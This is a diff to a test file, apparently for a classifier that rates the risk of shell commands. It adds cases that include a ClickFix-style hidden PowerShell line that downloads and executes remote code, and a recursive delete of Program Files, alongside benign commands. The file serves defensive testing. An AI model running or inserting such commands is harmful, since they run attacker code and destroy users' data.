@@ -116,6 +116,10 @@ CASES = [
         "powershell",
         C,
     ),
+    # cmd /c keeps a quoted argument whole (ClickFix: `$u=…;iex(irm $u)`)
+    ("cmd /c powershell -w h -c \"$u='https://198.51.100.7/a';iex(irm $u)\"", "cmd", C),
+    ('cmd /c powershell -c "$d=Get-Date; Write-Output $d"', "cmd", S),
+    ('cmd /c del /s "C:\\Program Files\\*"', "cmd", B),
     # over-rating fixed on the way
     ('net group "Domain admins" /dom', "cmd", S),
     ("xattr -p com.apple.quarantine ~/Downloads/Installer.dmg", "bash", S),
